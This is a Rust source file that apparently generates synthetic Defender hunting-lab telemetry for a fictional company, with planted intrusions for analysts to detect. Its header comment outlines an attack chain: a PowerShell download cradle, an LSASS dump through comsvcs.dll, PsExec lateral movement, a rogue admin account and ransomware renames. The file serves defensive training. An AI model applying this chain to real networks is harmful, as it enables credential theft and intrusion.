//! The built-in lab data set: a small fictional company, Kestrel Logistics (24 staff, 30 devices),
//! 30 days of ordinary activity ending at a chosen moment, and a handful of planted intrusions
//! that hunting queries should find:
//!
//! 1. phishing mail from a look-alike domain → click → script download (day −12);
//! 2. the script starts an encoded PowerShell download cradle, which drops a payload;
//! 3. scheduled-task persistence for the payload;
//! 4. LDAP reconnaissance of the domain from the payload, then an LSASS memory dump through
//!    comsvcs.dll MiniDump (day −10);
//! 5. PsExec lateral movement with a stolen admin account to the file and SQL servers, and a
//!    new account, `svc-update`, added to Domain Admins and Enterprise Admins (day −9);
//! 6. a plain-text `DownloadString` cradle on a second workstation (day −6);
//! 7. mass file renames to `.kestrel` on the file server, with a ransom note (day −3);
//!
//! and the attacker reading the victim's mailbox over Tor (day −11), which Defender for Cloud
//! Apps reports as impossible travel. Around them: what the domain controllers see
//! (`identity`), certificates, installed software and vulnerabilities, network adapters
//! (`posture`; app01 runs a SolarWinds Orion build listed as affected by SUNBURST).
//!
//! The planted events happen at moments of their own, to the 100 ns tick; a file has the same
//! hashes everywhere it appears; every program carries its own version information.
//!
//! Everything is generated from a seed with a fixed algorithm, so the same seed, scale and end
//! time give the same rows on every machine and every version.

// The event helpers take one argument per column group they fill; bundling them into structs
// would only move the same list elsewhere.
#![allow(clippy::too_many_arguments)]

use base64::Engine as _;
use serde_json::json;

use super::lab_table::{Row, TableBuilder, Val};
use crate::results::KqlType;
use datafusion::arrow::record_batch::RecordBatch;
use identity::{DirectoryChange, DirectoryQuery, Protocol};

mod identity;
mod posture;

const MILLI: i64 = 1_000_000;
const SECOND: i64 = 1_000_000_000;
const MINUTE: i64 = 60 * SECOND;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;
/// How many bursts of a device's activity (or mails, or cloud actions) the lab generates between
/// two checkpoints of `ordinary_activity` (a few thousand rows).
const CHECKPOINT_EVERY: i64 = 256;

/// How many days of activity the lab holds.
pub const LAB_DAYS: i64 = 30;

#[derive(Debug, Clone, PartialEq)]
pub struct LabOptions {
    /// Multiplies the volume of ordinary activity (the planted intrusions stay the same).
    pub scale: u32,
    pub seed: u64,
    /// The newest moment in the data, nanoseconds since 1970.
    pub end_nanos: i64,
}

impl LabOptions {
    pub fn ending_now(scale: u32) -> LabOptions {
        let now = chrono::Utc::now().timestamp_nanos_opt().unwrap_or(0);
        LabOptions {
            scale: scale.max(1),
            seed: 0x4855_4E54,
            end_nanos: now,
        }
    }
}

/// Every advanced hunting table with its columns, from Microsoft's published schema.
pub fn schema_tables() -> Vec<(String, Vec<(String, KqlType)>)> {
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("advanced-hunting-schema.json"))
            .expect("the bundled schema is valid JSON");
    let mut tables = Vec::new();
    if let Some(map) = schema["tables"].as_object() {
        for (table, columns) in map {
            let columns = columns
                .as_object()
                .map(|c| {
                    c.iter()
                        .map(|(name, ty)| {
                            (
                                name.clone(),
                                KqlType::from_kql_name(ty.as_str().unwrap_or(""))
                                    .unwrap_or(KqlType::String),
                            )
                        })
                        .collect()
                })
                .unwrap_or_default();
            tables.push((table.clone(), columns));
        }
    }
    tables
}

/// The lab's tables: the advanced hunting schema's, each with its columns, and `TimeGenerated`
/// (datetime, the same value as `Timestamp`) on every table that has a `Timestamp` and not yet a
/// `TimeGenerated`: many public hunting queries were written for Microsoft Sentinel's copies of
/// these tables, which carry it. Defender's own tables (`schema_tables`, what Graph is checked
/// against) do not.
pub fn lab_tables() -> Vec<(String, Vec<(String, KqlType)>)> {
    let mut tables = schema_tables();
    for (_, columns) in &mut tables {
        let has = |name: &str| columns.iter().any(|(n, _)| n == name);
        if has("Timestamp") && !has("TimeGenerated") {
            columns.push(("TimeGenerated".to_string(), KqlType::DateTime));
        }
    }
    tables
}

/// SplitMix64: tiny, fast, and its sequence never changes between versions (unlike a library's
/// default generator), which keeps the lab reproducible.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next_u64() % n }
    }

    pub fn range(&mut self, low: i64, high: i64) -> i64 {
        low + self.below((high - low).max(1) as u64) as i64
    }

    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    pub fn guid(&mut self) -> String {
        let (a, b) = (self.next_u64(), self.next_u64());
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xfff,
            0x8000 | (b >> 48) & 0x3fff,
            b & 0xffff_ffff_ffff
        )
    }

    pub fn hex(&mut self, chars: usize) -> String {
        const DIGITS: &[u8; 16] = b"0123456789abcdef";
        let mut out = String::with_capacity(chars + 16);
        while out.len() < chars {
            let v = self.next_u64();
            for shift in (0..16).rev() {
                out.push(char::from(DIGITS[((v >> (shift * 4)) & 0xf) as usize]));
            }
        }
        out.truncate(chars);
        out
    }
}

/// FNV-1a of a text: the seed of every value derived from a name, stable across versions.
fn fnv(text: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in text.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// A stable digest-looking hex string for a name.
fn digest(name: &str, chars: usize) -> String {
    Rng::new(fnv(name)).hex(chars)
}

/// The three hashes of one file. Each is derived from the file's identity (`file_identity`) by
/// a derivation of its own, so the same file has the same hashes wherever it appears and no
/// hash is a prefix of another (as with real MD5, SHA1 and SHA256).
struct FileHashes {
    md5: String,
    sha1: String,
    sha256: String,
}

fn file_hashes(identity: &str) -> FileHashes {
    FileHashes {
        md5: Rng::new(fnv(&format!("md5\u{0}{identity}"))).hex(32),
        sha1: Rng::new(fnv(&format!("sha1\u{0}{identity}"))).hex(40),
        sha256: Rng::new(fnv(&format!("sha256\u{0}{identity}"))).hex(64),
    }
}

/// What a file's hashes and size follow. A program, library or script is the same file wherever
/// it lies (its name: `cmd.exe` on every device, the dropped `updsvc.exe` both where it was
/// written and where it ran); a document is its own file (its full path).
fn file_identity(path: &str) -> String {
    let name = path
        .rsplit('\\')
        .next()
        .unwrap_or(path)
        .to_ascii_lowercase();
    if is_program(&name) {
        name
    } else {
        path.to_ascii_lowercase()
    }
}

fn is_program(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    [".exe", ".dll", ".sys", ".js", ".ps1"]
        .iter()
        .any(|e| name.ends_with(e))
}

/// The size of a program (stable per file, like its hashes).
fn program_size(identity: &str) -> i64 {
    40_000 + (fnv(&format!("size\u{0}{identity}")) % 6_000_000) as i64
}

/// A program's version information, as its resources give it.
#[derive(Clone, Copy)]
struct VersionInfo {
    company: &'static str,
    product: &'static str,
    description: &'static str,
    version: &'static str,
    original: &'static str,
    internal: &'static str,
}

const WINDOWS: &str = "Microsoft® Windows® Operating System";
const MICROSOFT: &str = "Microsoft Corporation";

/// Each program's own version information (by file name, any case); Windows' own programs carry
/// the build of the device they run on. Unknown programs (the intruders' tools) carry none.
fn version_info(file: &str, server: bool) -> VersionInfo {
    let build = if server {
        "10.0.20348.3453"
    } else {
        "10.0.26100.3775"
    };
    let windows = |description, original, internal| VersionInfo {
        company: MICROSOFT,
        product: WINDOWS,
        description,
        version: build,
        original,
        internal,
    };
    let app = |company, product, description, version, original, internal| VersionInfo {
        company,
        product,
        description,
        version,
        original,
        internal,
    };
    match file.to_ascii_lowercase().as_str() {
        "cmd.exe" => windows("Windows Command Processor", "Cmd.Exe", "cmd"),
        "powershell.exe" => windows("Windows PowerShell", "PowerShell.EXE.MUI", "POWERSHELL"),
        "conhost.exe" => windows("Console Window Host", "CONHOST.EXE", "CONHOST"),
        "explorer.exe" => windows("Windows Explorer", "EXPLORER.EXE", "explorer"),
        "svchost.exe" => windows(
            "Host Process for Windows Services",
            "svchost.exe",
            "svchost.exe",
        ),
        "taskhostw.exe" => windows(
            "Host Process for Windows Tasks",
            "taskhostw.exe",
            "taskhostw.exe",
        ),
        "wscript.exe" => windows(
            "Microsoft ® Windows Based Script Host",
            "wscript.exe",
            "wscript.exe",
        ),
        "rundll32.exe" => windows("Windows host process (Rundll32)", "RUNDLL32.EXE", "rundll"),
        "schtasks.exe" => windows(
            "Task Scheduler Configuration Tool",
            "schtasks.exe",
            "schtasks.exe",
        ),
        "ipconfig.exe" => windows("IP Configuration Utility", "ipconfig.exe", "ipconfig.exe"),
        "whoami.exe" => windows(
            "whoami - displays logged on user information",
            "whoami.exe",
            "whoami.exe",
        ),
        "ping.exe" => windows("TCP/IP Ping Command", "ping.exe", "ping.exe"),
        "nslookup.exe" => windows("nslookup", "nslookup.exe", "nslookup.exe"),
        "net.exe" => windows("Net Command", "net.exe", "net.exe"),
        "msiexec.exe" => windows("Windows® installer", "msiexec.exe", "msiexec"),
        "services.exe" => windows(
            "Services and Controller app",
            "services.exe",
            "services.exe",
        ),
        "lsass.exe" => windows("Local Security Authority Process", "lsass.exe", "lsass.exe"),
        "userinit.exe" => windows("Userinit Logon Application", "USERINIT.EXE", "userinit"),
        "wsmprovhost.exe" => windows(
            "Host process for WinRM plug-ins",
            "wsmprovhost.exe",
            "wsmprovhost.exe",
        ),
        "w3wp.exe" => app(
            MICROSOFT,
            "Internet Information Services",
            "IIS Worker Process",
            build,
            "w3wp.exe",
            "w3wp.exe",
        ),
        "msmpeng.exe" => app(
            MICROSOFT,
            "Microsoft Malware Protection",
            "Antimalware Service Executable",
            "4.18.24090.11",
            "MsMpEng.exe",
            "MsMpEng.exe",
        ),
        "microsoft.management.services.intunewindowsagent.exe" => app(
            MICROSOFT,
            "Microsoft Intune Management Extension",
            "Microsoft.Management.Services.IntuneWindowsAgent",
            "1.83.107.0",
            "Microsoft.Management.Services.IntuneWindowsAgent.exe",
            "Microsoft.Management.Services.IntuneWindowsAgent.exe",
        ),
        "chrome.exe" => app(
            "Google LLC",
            "Google Chrome",
            "Google Chrome",
            "131.0.6778.140",
            "chrome.exe",
            "chrome_exe",
        ),
        "msedge.exe" => app(
            MICROSOFT,
            "Microsoft Edge",
            "Microsoft Edge",
            "131.0.2903.70",
            "msedge.exe",
            "msedge_exe",
        ),
        "outlook.exe" => app(
            MICROSOFT,
            "Microsoft Office",
            "Microsoft Outlook",
            "16.0.18129.20158",
            "Outlook.exe",
            "Outlook",
        ),
        "excel.exe" => app(
            MICROSOFT,
            "Microsoft Office",
            "Microsoft Excel",
            "16.0.18129.20158",
            "Excel.exe",
            "Excel",
        ),
        "winword.exe" => app(
            MICROSOFT,
            "Microsoft Office",
            "Microsoft Word",
            "16.0.18129.20158",
            "WinWord.exe",
            "WinWord",
        ),
        "ms-teams.exe" => app(
            MICROSOFT,
            "Microsoft Teams",
            "Microsoft Teams",
            "24335.206.3314.2380",
            "ms-teams.exe",
            "ms-teams",
        ),
        "onedrive.exe" => app(
            MICROSOFT,
            "Microsoft OneDrive",
            "Microsoft OneDrive",
            "24.226.1110.0004",
            "OneDrive.exe",
            "OneDrive.exe",
        ),
        "git.exe" => app(
            "The Git Development Community",
            "Git",
            "Git for Windows",
            "2.47.1.windows.1",
            "git.exe",
            "git",
        ),
        "sqlservr.exe" => app(
            MICROSOFT,
            "Microsoft SQL Server",
            "SQL Server Windows NT - 64 Bit",
            "2022.0160.4155.04",
            "SQLSERVR.EXE",
            "SQLSERVR",
        ),
        "veeam.endpoint.service.exe" => app(
            "Veeam Software Group GmbH",
            "Veeam Agent for Microsoft Windows",
            "Veeam Agent for Microsoft Windows Service",
            "6.2.0.121",
            "Veeam.EndPoint.Service.exe",
            "Veeam.EndPoint.Service",
        ),
        "solarwinds.businesslayerhost.exe" => app(
            "SolarWinds Worldwide, LLC.",
            "SolarWinds Orion",
            "SolarWinds.BusinessLayerHost",
            "2020.2.15300.12901",
            "SolarWinds.BusinessLayerHost.exe",
            "SolarWinds.BusinessLayerHost.exe",
        ),
        "psexec.exe" => app(
            "Sysinternals - www.sysinternals.com",
            "Sysinternals PsExec",
            "Execute processes remotely",
            "2.43",
            "psexec.c",
            "PsExec",
        ),
        "psexesvc.exe" => app(
            "Sysinternals - www.sysinternals.com",
            "Sysinternals PsExec",
            "PsExec Service",
            "2.43",
            "psexesvc.exe",
            "PsExeSvc",
        ),
        _ => app("", "", "", "", "", ""),
    }
}

/// The columns that describe a program's file, under the names a table gives them
/// (`Process…`/plain for the created process, `InitiatingProcess…` for the one that acted).
/// The `System` process is no file: Defender leaves these empty for it.
fn program_columns(file: &str, folder: &str, server: bool, initiating: bool) -> Row {
    if file == "System" {
        return Vec::new();
    }
    let identity = file_identity(&format!("{folder}\\{file}"));
    let hashes = file_hashes(&identity);
    let info = version_info(file, server);
    let size = program_size(&identity);
    if initiating {
        vec![
            ("InitiatingProcessSHA1", hashes.sha1.into()),
            ("InitiatingProcessSHA256", hashes.sha256.into()),
            ("InitiatingProcessMD5", hashes.md5.into()),
            ("InitiatingProcessFileSize", Val::L(size)),
            (
                "InitiatingProcessVersionInfoCompanyName",
                info.company.into(),
            ),
            (
                "InitiatingProcessVersionInfoProductName",
                info.product.into(),
            ),
            (
                "InitiatingProcessVersionInfoProductVersion",
                info.version.into(),
            ),
            (
                "InitiatingProcessVersionInfoOriginalFileName",
                info.original.into(),
            ),
            (
                "InitiatingProcessVersionInfoInternalFileName",
                info.internal.into(),
            ),
            (
                "InitiatingProcessVersionInfoFileDescription",
                info.description.into(),
            ),
        ]
    } else {
        vec![
            ("SHA1", hashes.sha1.into()),
            ("SHA256", hashes.sha256.into()),
            ("MD5", hashes.md5.into()),
            ("FileSize", Val::L(size)),
            ("ProcessVersionInfoCompanyName", info.company.into()),
            ("ProcessVersionInfoProductName", info.product.into()),
            ("ProcessVersionInfoProductVersion", info.version.into()),
            ("ProcessVersionInfoOriginalFileName", info.original.into()),
            ("ProcessVersionInfoInternalFileName", info.internal.into()),
            ("ProcessVersionInfoFileDescription", info.description.into()),
        ]
    }
}

struct User {
    name: &'static str,
    account: String,
    upn: String,
    sid: String,
    object_id: String,
    department: &'static str,
    title: &'static str,
}

const STAFF: &[(&str, &str, &str)] = &[
    ("Avery Morgan", "Executive", "Chief Executive Officer"),
    ("Dana Whitfield", "Finance", "Accounts Payable Specialist"),
    ("Jamie Chen", "IT", "Systems Administrator"),
    ("Priya Raman", "IT", "Security Analyst"),
    ("Lucas Ferreira", "Operations", "Dispatch Coordinator"),
    ("Mia Kowalski", "Operations", "Fleet Manager"),
    ("Noah Adeyemi", "Finance", "Controller"),
    ("Sofia Lindqvist", "Sales", "Account Executive"),
    ("Ethan Brooks", "Sales", "Sales Manager"),
    ("Hana Sato", "HR", "HR Generalist"),
    ("Omar Haddad", "Engineering", "Software Engineer"),
    ("Chloe Martin", "Engineering", "Software Engineer"),
    ("Mateo Rossi", "Operations", "Warehouse Supervisor"),
    ("Grace Okafor", "Legal", "Counsel"),
    ("Leo Novak", "Engineering", "DevOps Engineer"),
    ("Isla MacLeod", "Customer Service", "Support Lead"),
    ("Ravi Patel", "Finance", "Payroll Specialist"),
    ("Zoe Dubois", "Marketing", "Marketing Manager"),
    ("Felix Wagner", "Operations", "Logistics Planner"),
    ("Amara Nwosu", "Customer Service", "Support Agent"),
    ("Kai Nakamura", "Sales", "Account Executive"),
    ("Elena Petrova", "HR", "Recruiter"),
    ("Samir Aziz", "IT", "Help Desk Technician"),
    ("Nora Jensen", "Executive", "Chief Financial Officer"),
];

const DOMAIN: &str = "kestrel";
const MAIL_DOMAIN: &str = "kestrel.example";
const SID_PREFIX: &str = "S-1-5-21-3623811015-3361044348-30300820";

struct Device {
    id: String,
    name: String,
    ip: String,
    server: bool,
    /// Index into the users of the person who uses it (workstations).
    owner: Option<usize>,
    os: &'static str,
}

/// A running process, enough to fill the Initiating* columns of the events it causes.
#[derive(Clone)]
struct Proc {
    file: String,
    folder: String,
    command: String,
    pid: i64,
    created: i64,
    account: String,
    account_sid: String,
    account_upn: String,
    integrity: &'static str,
    parent_file: String,
    parent_pid: i64,
    parent_created: i64,
}

impl Proc {
    fn path(&self) -> String {
        format!("{}\\{}", self.folder, self.file)
    }
}

/// The domain Defender gives an account: the well-known local ones (SYSTEM, LOCAL SERVICE,
/// NETWORK SERVICE) are `nt authority`'s, the staff's the company's.
fn account_domain(sid: &str) -> &'static str {
    if sid.starts_with(SID_PREFIX) {
        DOMAIN
    } else {
        "nt authority"
    }
}

/// The Initiating* columns every Device* table shares, plus the device columns.
fn context(device: &Device, time: i64, report: i64, p: &Proc) -> Row {
    let mut row = vec![
        ("Timestamp", Val::T(time)),
        ("DeviceId", device.id.as_str().into()),
        ("DeviceName", device.name.as_str().into()),
        ("ReportId", Val::L(report)),
        ("InitiatingProcessFileName", p.file.as_str().into()),
        ("InitiatingProcessFolderPath", p.path().into()),
        ("InitiatingProcessCommandLine", p.command.as_str().into()),
        ("InitiatingProcessId", Val::L(p.pid)),
        ("InitiatingProcessCreationTime", Val::T(p.created)),
        (
            "InitiatingProcessParentFileName",
            p.parent_file.as_str().into(),
        ),
        ("InitiatingProcessParentId", Val::L(p.parent_pid)),
        (
            "InitiatingProcessParentCreationTime",
            Val::T(p.parent_created),
        ),
        (
            "InitiatingProcessAccountDomain",
            account_domain(&p.account_sid).into(),
        ),
        ("InitiatingProcessAccountName", p.account.as_str().into()),
        ("InitiatingProcessAccountSid", p.account_sid.as_str().into()),
        ("InitiatingProcessAccountUpn", p.account_upn.as_str().into()),
        ("InitiatingProcessIntegrityLevel", p.integrity.into()),
        (
            "InitiatingProcessTokenElevation",
            if p.integrity == "High" || p.integrity == "System" {
                "TokenElevationTypeFull".into()
            } else {
                "TokenElevationTypeLimited".into()
            },
        ),
        (
            "InitiatingProcessSessionId",
            Val::L(if p.integrity == "System" { 0 } else { 1 }),
        ),
        ("IsInitiatingProcessRemoteSession", Val::B(false)),
        (
            "InitiatingProcessUniqueId",
            Val::S(format!(
                "{}",
                p.pid * 1_000_003 + p.created.rem_euclid(1_000_000)
            )),
        ),
    ];
    row.extend(program_columns(&p.file, &p.folder, device.server, true));
    row
}

/// One delivered mail, as `Lab::mail` records it.
struct Mail<'a> {
    time: i64,
    sender: &'a str,
    sender_name: &'a str,
    sender_ip: &'a str,
    recipient: usize,
    subject: &'a str,
    bulk: bool,
    authentication: serde_json::Value,
    url: Option<&'a str>,
    attachments: i64,
}

struct Lab {
    rng: Rng,
    /// The sub-second clock of the planted intrusions (a stream of its own, so the ordinary
    /// activity stays as it was).
    clock: Rng,
    options: LabOptions,
    start: i64,
    users: Vec<User>,
    devices: Vec<Device>,
    report: i64,
    tables: std::collections::BTreeMap<String, TableBuilder>,
    /// Every program seen on each device, by (device, file identity): its path and when it was
    /// first seen (for DeviceFileCertificateInfo).
    programs: std::collections::BTreeMap<(usize, String), (String, i64)>,
    story: Story,
}

/// What the intrusions leave for the tables filled after them.
#[derive(Default)]
struct Story {
    /// When the attacker read the victim's mailbox, whose, and from where.
    mailbox_read: Option<(i64, usize, String)>,
}

pub type GeneratedTable = (
    String,
    Vec<(String, KqlType)>,
    datafusion::arrow::record_batch::RecordBatch,
);

/// Generates every advanced hunting table (`lab_tables`): the ones the lab fills and the rest
/// empty, with their full column sets.
pub fn generate(
    options: &LabOptions,
) -> Result<Vec<GeneratedTable>, datafusion::arrow::error::ArrowError> {
    generate_with_progress(options, &|_| {})
}

/// `generate`, telling `progress` how far it has come (`building the lab data: day 12 of 31`):
/// at a large scale generation takes seconds, and the console shows this meanwhile.
pub fn generate_with_progress(
    options: &LabOptions,
    progress: &dyn Fn(String),
) -> Result<Vec<GeneratedTable>, datafusion::arrow::error::ArrowError> {
    let mut lab = Lab::new(options.clone());
    lab.ordinary_activity(progress, &mut |_| Ok(()))
        .map_err(datafusion::arrow::error::ArrowError::ComputeError)?;
    lab.finish_story(progress);
    lab.tables.into_values().map(TableBuilder::finish).collect()
}

/// Where `generate_in_parts` sends the rows: the table's name, its columns (name, KQL type) and
/// the next part of its rows. An error stops the generation and is passed on.
pub type PartSink<'a> =
    dyn FnMut(&str, &[(String, KqlType)], RecordBatch) -> Result<(), String> + 'a;

/// The lab of `generate`, or only the tables named in `only`, handed to `sink` in parts as it is
/// generated, so that memory stays bounded at any scale: a table is handed on whenever it holds
/// `part_rows` rows or more (checked every few thousand rows, so a part can be a little larger),
/// and what remains at the end. The parts of a table, in order, are exactly the
/// rows `generate` gives with the same options (the same seed, scale and end: the generation is
/// the same, only taken away sooner). Every kept table gets at least one part, an empty table an
/// empty one. Errors: a name in `only` that is no lab table, a batch Arrow refuses, or the sink's.
pub fn generate_in_parts(
    options: &LabOptions,
    only: Option<&[String]>,
    part_rows: usize,
    sink: &mut PartSink,
    progress: &dyn Fn(String),
) -> Result<(), String> {
    let mut lab = Lab::new(options.clone());
    if let Some(only) = only {
        if let Some(unknown) = only.iter().find(|name| !lab.tables.contains_key(*name)) {
            return Err(format!("'{unknown}' is no lab table"));
        }
        lab.tables.retain(|name, _| only.contains(name));
    }
    let mut sent = std::collections::BTreeSet::new();
    let mut hand_on = |lab: &mut Lab, at_end: bool| -> Result<(), String> {
        for (name, builder) in lab.tables.iter_mut() {
            let full = builder.len() >= part_rows.max(1);
            let last = at_end && (!builder.is_empty() || !sent.contains(name));
            if full || last {
                let batch = builder.take().map_err(|e| format!("{name}: {e}"))?;
                sink(name, &builder.columns, batch)?;
                sent.insert(name.clone());
            }
        }
        Ok(())
    };
    lab.ordinary_activity(progress, &mut |lab| hand_on(lab, false))?;
    lab.finish_story(progress);
    hand_on(&mut lab, true)
}

impl Lab {
    fn new(options: LabOptions) -> Lab {
        let mut rng = Rng::new(options.seed);
        let tables = lab_tables()
            .into_iter()
            .map(|(name, columns)| (name.clone(), TableBuilder::new(&name, columns)))
            .collect();
        let users: Vec<User> = STAFF
            .iter()
            .enumerate()
            .map(|(i, (name, department, title))| {
                let (first, last) = name.split_once(' ').unwrap_or((name, ""));
                let account = format!("{}{}", &first[..1], last).to_ascii_lowercase();
                User {
                    name,
                    upn: format!("{account}@{MAIL_DOMAIN}"),
                    sid: format!("{SID_PREFIX}-{}", 1104 + i),
                    object_id: rng.guid(),
                    account,
                    department,
                    title,
                }
            })
            .collect();
        let mut devices = Vec::new();
        for (i, _) in users.iter().enumerate() {
            devices.push(Device {
                id: rng.hex(40),
                name: format!("ws-{:04}.{DOMAIN}.local", 101 + i),
                ip: format!("10.20.{}.{}", 1 + i / 200, 10 + i % 200),
                server: false,
                owner: Some(i),
                os: "Windows11",
            });
        }
        for (i, name) in ["dc01", "dc02", "fs01", "sql01", "app01", "web01"]
            .iter()
            .enumerate()
        {
            devices.push(Device {
                id: rng.hex(40),
                name: format!("{name}.{DOMAIN}.local"),
                ip: format!("10.10.0.{}", 10 + i),
                server: true,
                owner: None,
                os: "WindowsServer2022",
            });
        }
        let start = options.end_nanos - LAB_DAYS * DAY;
        Lab {
            rng,
            clock: Rng::new(options.seed ^ 0x636C_6F63_6B00_0000),
            programs: Default::default(),
            story: Story::default(),
            options,
            start,
            users,
            devices,
            report: 1000,
            tables,
        }
    }

    /// What follows the ordinary activity: the intrusions, then the directory and posture
    /// tables (which read what the intrusions left).
    fn finish_story(&mut self, progress: &dyn Fn(String)) {
        self.intrusions();
        progress("building the lab data: directory, certificates, vulnerabilities".to_string());
        self.posture();
        progress("building the lab data: assembling the tables".to_string());
    }

    fn push(&mut self, table: &str, row: Row) {
        self.report += 1;
        // Activity on the partial first and last days can fall outside the window: before it, or
        // not happened yet.
        let (start, end) = (self.start, self.options.end_nanos);
        let outside = |t: &i64| *t > end || *t < start;
        if row
            .iter()
            .any(|(name, value)| *name == "Timestamp" && matches!(value, Val::T(t) if outside(t)))
        {
            return;
        }
        if let Some(builder) = self.tables.get_mut(table) {
            builder.push(row);
        }
    }

    fn next_report(&mut self) -> i64 {
        self.report += 1;
        self.report
    }

    /// A time on calendar day `day` (0 = the day the window starts), in working hours most of the
    /// time.
    fn time_on(&mut self, day: i64, working: bool) -> i64 {
        let hour = if working && self.rng.chance(0.9) {
            self.rng.range(7, 19)
        } else {
            self.rng.range(0, 24)
        };
        // Days are calendar days (UTC) so that working hours fall in the working day; the first
        // and last are partial, and `push` drops what falls outside the window.
        let first_midnight = self.start - self.start.rem_euclid(DAY);
        first_midnight + day * DAY + hour * HOUR + self.rng.range(0, HOUR)
    }

    /// A moment `days_ago` before the end, in the minute `hour:minute` on that day's clock (at a
    /// second and sub-second of its own).
    fn planted(&mut self, days_ago: i64, hour: i64, minute: i64) -> i64 {
        let day_start = self.options.end_nanos - days_ago * DAY;
        let base = day_start - day_start.rem_euclid(DAY);
        base + hour * HOUR + minute * MINUTE + self.clock.range(0, 60) * SECOND + self.sub_second()
    }

    /// A sub-second part: milliseconds and the 100 ns ticks under them.
    fn sub_second(&mut self) -> i64 {
        self.clock.range(0, 10_000_000) * 100
    }

    /// `seconds` after `t`, plus up to 0.9 s: what happens a few seconds after something else
    /// does not happen on the same sub-second (and a second later is still later).
    fn after(&mut self, t: i64, seconds: i64) -> i64 {
        t + seconds * SECOND + self.clock.range(0, 9_000_000) * 100
    }

    /// `millis` milliseconds after `t`, with ticks of its own.
    fn soon(&mut self, t: i64, millis: i64) -> i64 {
        t + millis * MILLI + self.clock.range(0, 10_000) * 100
    }

    /// Notes that `device` ran or loaded the program at `path` at `time`.
    fn saw_program(&mut self, device: usize, path: &str, time: i64) {
        let name = path
            .rsplit('\\')
            .next()
            .unwrap_or(path)
            .to_ascii_lowercase();
        // What `push` drops (outside the window) was never seen.
        let outside = time < self.start || time > self.options.end_nanos;
        if outside || !(name.ends_with(".exe") || name.ends_with(".dll")) {
            return;
        }
        let entry = self
            .programs
            .entry((device, file_identity(path)))
            .or_insert_with(|| (path.to_string(), time));
        if time < entry.1 {
            *entry = (path.to_string(), time);
        }
    }

    fn system_proc(&mut self, file: &str, command: &str, created: i64) -> Proc {
        Proc {
            file: file.to_string(),
            folder: "C:\\Windows\\System32".to_string(),
            command: command.to_string(),
            pid: self.rng.range(400, 2000),
            created,
            account: "system".to_string(),
            account_sid: "S-1-5-18".to_string(),
            account_upn: String::new(),
            integrity: "System",
            parent_file: "services.exe".to_string(),
            parent_pid: 708,
            parent_created: created - 3 * HOUR,
        }
    }

    fn user_proc(
        &mut self,
        user: usize,
        file: &str,
        folder: &str,
        command: &str,
        created: i64,
        parent: (&str, i64, i64),
    ) -> Proc {
        let u = &self.users[user];
        Proc {
            file: file.to_string(),
            folder: folder.to_string(),
            command: command.to_string(),
            pid: self.rng.range(2000, 30000),
            created,
            account: u.account.clone(),
            account_sid: u.sid.clone(),
            account_upn: u.upn.clone(),
            integrity: "Medium",
            parent_file: parent.0.to_string(),
            parent_pid: parent.1,
            parent_created: parent.2,
        }
    }

    /// Records that `parent` started `child` on `device`.
    fn process_created(&mut self, device: usize, parent: &Proc, child: &Proc) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, child.created, report, parent);
        row.extend(program_columns(&child.file, &child.folder, d.server, false));
        row.extend([
            ("ActionType", "ProcessCreated".into()),
            ("FileName", child.file.as_str().into()),
            ("FolderPath", child.path().into()),
            ("ProcessCommandLine", child.command.as_str().into()),
            ("ProcessId", Val::L(child.pid)),
            ("ProcessCreationTime", Val::T(child.created)),
            ("ProcessIntegrityLevel", child.integrity.into()),
            ("ProcessTokenElevation", if child.integrity == "Medium" { "TokenElevationTypeLimited".into() } else { "TokenElevationTypeFull".into() }),
            ("AccountDomain", account_domain(&child.account_sid).into()),
            ("AccountName", child.account.as_str().into()),
            ("AccountSid", child.account_sid.as_str().into()),
            ("AccountUpn", child.account_upn.as_str().into()),
            ("AdditionalFields", Val::S(json!({"TokenElevationType": if child.integrity == "Medium" { "TokenElevationTypeLimited" } else { "TokenElevationTypeFull" }, "ProcessPosixProcessGroupId": null}).to_string())),
            ("CreatedProcessSessionId", Val::L(if child.integrity == "System" { 0 } else { 1 })),
            ("IsProcessRemoteSession", Val::B(false)),
            ("ProcessUniqueId", Val::S(format!("{}", child.pid * 1_000_003 + child.created.rem_euclid(1_000_000)))),
        ]);
        self.push("DeviceProcessEvents", row);
        self.saw_program(device, &child.path(), child.created);
    }

    fn connection(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        remote_ip: &str,
        port: i64,
        url: &str,
        action: &str,
    ) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, time, report, p);
        let private = remote_ip.starts_with("10.");
        row.extend([
            ("ActionType", action.into()),
            ("RemoteIP", remote_ip.into()),
            ("RemotePort", Val::L(port)),
            ("RemoteUrl", url.into()),
            ("LocalIP", d.ip.as_str().into()),
            ("LocalPort", Val::L(49152 + (report % 16000))),
            (
                "Protocol",
                if port == 53 {
                    "Udp".into()
                } else {
                    "Tcp".into()
                },
            ),
            ("LocalIPType", "Private".into()),
            (
                "RemoteIPType",
                if private {
                    "Private".into()
                } else {
                    "Public".into()
                },
            ),
        ]);
        self.push("DeviceNetworkEvents", row);
    }

    fn file_event(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        action: &str,
        folder: &str,
        file: &str,
        extra: Row,
    ) {
        let report = self.next_report();
        let d = &self.devices[device];
        let mut row = context(d, time, report, p);
        let path = format!("{folder}\\{file}");
        let identity = file_identity(&path);
